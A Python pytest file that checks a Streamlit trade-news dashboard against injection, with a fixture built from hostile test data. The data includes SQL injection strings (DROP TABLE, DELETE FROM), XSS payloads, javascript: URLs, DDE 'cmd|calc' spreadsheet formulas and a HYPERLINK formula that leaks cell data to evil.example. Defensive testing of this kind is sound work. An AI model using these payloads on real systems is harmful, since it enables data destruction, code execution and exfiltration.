"""No injection: SQL values are bound parameters (URL values included), CSV cells never
start a spreadsheet formula, article text shown in a page is escaped and runs nothing.

The database is built by the ETL from a hostile raw folder: an article with <script>,
<img onerror> and lines that start with = - @, a manifest title with Markdown and HTML,
a javascript: URL, a file whose name is SQL, and an unreadable file named like a formula.
"""
from __future__ import annotations

import ast
import csv
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from bench.server import CHROMIUM, CHROMIUM_ARGS, DashboardServer

ROOT = Path(__file__).resolve().parent.parent
MARK = "ZQX9"
SQL_NAME = f"evil' OR '1'='1' --{MARK}.txt"  # a real file: its name is a valid filter value
FORMULA_NAME = "=cmd|' -C calc'!A0.txt"
ARTICLE = """Новости партнёров

<script>window.__pwned=1;alert(1)</script> Товарооборот между Казахстаном и Узбекистаном составил 4 млрд долларов. <img src=x onerror="window.__pwned=2;alert(2)">

=HYPERLINK("http://evil.example/?leak="&A1,"click") Товарооборот между Казахстаном и Узбекистаном достиг 5 млрд долларов.

- Товарооборот между Казахстаном и Узбекистаном составит 6 млрд долларов в 2026 году.

@SUM(1+1)*cmd|' /C calc'!A0 Создано 700 совместных предприятий Казахстана и Узбекистана.
"""
TITLE = ('=HYPERLINK("http://evil.example") [click](javascript:window.__pwned=3) '
         '<b onmouseover=alert(5)>bold</b> <script>window.__pwned=6</script>')
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def evil_db(tmp_path_factory) -> Path:
    top = tmp_path_factory.mktemp("evil")
    raw = top / "raw"
    raw.mkdir()
    (raw / SQL_NAME).write_text(ARTICLE, encoding="utf-8")
    (raw / FORMULA_NAME).write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(100))
    with open(raw / "manifest.csv", "w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([["file", "url", "published", "title", "lang"],
                                  [SQL_NAME, "javascript:window.__pwned=4", "2025-11-15", TITLE,
                                   "ru"]])
    db = top / "dyad.duckdb"
    done = subprocess.run([sys.executable, "-m", "etl", "build", "--raw", str(raw), "--db",
                           str(db)], cwd=ROOT, capture_output=True, text=True, timeout=120)
    assert done.returncode == 1 and db.exists(), done.stderr  # 1: the formula-named file
    return db


def _pages() -> list[str]:
    return re.findall(r"""st\.Page\(\s*["']([^"']+\.py)["']""",
                      (ROOT / "app.py").read_text(encoding="utf-8"))


HOSTILE_PARAMS = {
    "pair": f"KAZ-UZB' OR '1'='1' --{MARK}",
    "dates": [f"2025-01-01'); DROP TABLE facts; --{MARK}", "2099-01-01"],
    "pairs": [f"RUS-CHN') --{MARK}"],
    "metric": [f"trade_turnover' OR 1=1 --{MARK}"],
    "kind": [f"actual{MARK}"],
    "lang": [f"ru' OR 1=1 --{MARK}"],
    "source": [SQL_NAME, f"x'); DELETE FROM facts; --{MARK}"],
    "conf": f"0.5; DROP TABLE facts --{MARK}",
    "ui": f"en'{MARK}",
    "chart": "trade",
    "snapshot": "",
    "target": f"10e9' --{MARK}",
}


def test_every_sql_value_is_a_bound_parameter(evil_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from dyad import db

    monkeypatch.setenv("DYAD_DB", str(evil_db))
    before = evil_db.read_bytes()
    calls: list[tuple[str, tuple]] = []
    real = db._cached

    def spy(stamp, sql, params):
        calls.append((sql, params))
        return real(stamp, sql, params)

    monkeypatch.setattr(db, "_cached", spy)
    pages = _pages()
    assert len(pages) >= 5
    for page in pages:
        at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60)
        for key, value in HOSTILE_PARAMS.items():
            at.query_params[key] = value
        at.run()
        at.switch_page(page).run()
        assert not at.exception, (page, [e.message for e in at.exception])
    assert calls
    assert not [sql for sql, _ in calls if MARK in sql]  # never spliced into the SQL text
    assert any(MARK in repr(params) for _, params in calls)  # it did reach queries: bound
    assert evil_db.read_bytes() == before


def test_only_dyad_db_talks_to_the_database():
    """Every query goes through dyad.db.query (bound parameters, read-only connections)."""
    offenders = []
    for path in [ROOT / "app.py", *sorted((ROOT / "pages").glob("*.py")),
                 *sorted((ROOT / "dyad").glob("*.py"))]:
        if path.name == "db.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = ([a.name for a in node.names] if isinstance(node, ast.Import) else
                     [node.module or ""] if isinstance(node, ast.ImportFrom) else [])
            if any(n.split(".")[0] in ("duckdb", "sqlite3") for n in names):
                offenders.append(path.name)
    assert offenders == []


def _cells(data: bytes) -> list[str]:
    """The cells a spreadsheet sees: outside quotes, CR, LF and CRLF all end a row
    (Python's csv module would refuse a bare CR; Excel starts a new row on it)."""
    text = data.decode("utf-8-sig")
    text = "".join(ln for ln in text.splitlines(keepends=True) if not ln.startswith("# "))
    cells, cell, quoted, i = [], "", False, 0
    while i < len(text):
        ch = text[i]
        if quoted:
            if ch == '"' and text[i + 1:i + 2] == '"':
                cell += '"'
                i += 1
            elif ch == '"':
                quoted = False
            else:
                cell += ch
        elif ch == '"' and not cell:
            quoted = True
        elif ch in ",\r\n":
            cells.append(cell)
            cell = ""
        else:
            cell += ch
        i += 1
    return [c for c in [*cells, cell] if c]


def test_csv_cells_never_start_a_formula(evil_db, monkeypatch):
    import pandas as pd

    from dyad import exports, queries

    hostile = pd.DataFrame({
        "=SUM(A1)": ["=1+1", "+1", "-2", "@cmd", "\t=x", "ok", "a\n=2+2", None],
        "n": [-5.0, 1.0, float("nan"), -0.5, 2.0, 3.0, 4.0, 5.0],
    })
    cells = _cells(exports.to_csv(hostile))
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    assert "'=1+1" in cells and "'-5" in cells

    monkeypatch.setenv("DYAD_DB", str(evil_db))
    lo, hi = queries.date_bounds()
    facts = queries.facts(queries.Scope("KAZ-UZB", lo, hi))
    assert len(facts) == 4 and facts["evidence"].str.startswith(("=", "-", "@")).sum() == 3
    for frame in (facts, queries.rejected_files()):
        data = exports.with_header(frame, ["Dyad test"]) if hasattr(
            exports, "with_header") else exports.to_csv(frame)
        cells = _cells(data)
        assert not [c for c in cells if c.startswith(FORMULA_START)]
    # the ETL's own report of unreadable files (names with a CR in them are escaped)
    report = evil_db.with_name(evil_db.name + ".rejected.csv")
    cells = _cells(report.read_bytes())
    assert "'" + FORMULA_NAME in cells
    assert not [c for c in cells if c.startswith(FORMULA_START)]


def test_a_line_break_inside_a_cell_cannot_start_a_formula():
    import pandas as pd

    from dyad import exports

    data = exports.to_csv(pd.DataFrame({"Article": ["x\r=1+1", "y\r\n@cmd", "z\n-2"]}))
    assert not [c for c in _cells(data) if c.startswith(FORMULA_START)]


def test_article_text_in_pages_is_escaped(evil_db, monkeypatch):
    from streamlit.testing.v1 import AppTest

    monkeypatch.setenv("DYAD_DB", str(evil_db))
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/sources.py").run()
    assert not at.exception
    bodies = [h.proto.body for h in at.get("html")]
    assert any("&lt;script&gt;window.__pwned=1" in b for b in bodies)
    real_tag = re.compile(r"<(script|img|iframe|svg|object)\b|<[^<>]*\son[a-z]+\s*=", re.I)
    assert not any(real_tag.search(b) for b in bodies)  # '&lt;img onerror=' is only text
    texts = [e.value for kind in ("markdown", "caption") for e in at.get(kind)]
    texts += [e.proto.label for e in at.get("expandable")]
    unescaped = re.compile(r"\]\(javascript:|(?<!\\)<b onmouseover")  # a link, a tag
    assert texts and not [s for s in texts if unescaped.search(s)]


# --- a real browser: nothing runs ----------------------------------------------------------



@pytest.mark.browser
def test_in_a_browser_article_scripts_show_as_text_and_run_nothing(evil_db, tmp_path):
    playwright = pytest.importorskip("playwright.sync_api")
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI"):
            pytest.fail("CI must install Debian's chromium (.ci/run does)")
        pytest.skip("Debian's chromium is not installed")
    try:
        server = DashboardServer({"DYAD_DB": str(evil_db)}, tmp_path / "streamlit.log", 60)
    except RuntimeError as e:
        pytest.fail(str(e))
    base = server.base
    try:
        with playwright.sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
            page = browser.new_page()
            page.set_default_timeout(30_000)
            dialogs: list[str] = []
            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
            for path in ("/sources?pair=KAZ-UZB", "/?pair=KAZ-UZB"):
                page.goto(base + path)
                page.wait_for_selector('[data-testid="stApp"][data-test-script-state='
                                       '"notRunning"]')
                page.wait_for_timeout(500)
                assert page.get_by_test_id("stException").count() == 0, path
                if path.startswith("/sources"):
                    for summary in page.locator('[data-testid="stExpander"] summary').all():
                        summary.click()  # open every evidence panel
                    page.wait_for_timeout(500)
                    text = page.inner_text("body")
                    assert "<script>window.__pwned=1;alert(1)</script>" in text
                    assert 'onerror="window.__pwned=2' in text
                assert page.evaluate("window.__pwned") is None, path
                assert page.locator("a[href^='javascript']").count() == 0, path
            assert dialogs == []
            browser.close()
    finally:
        server.stop()
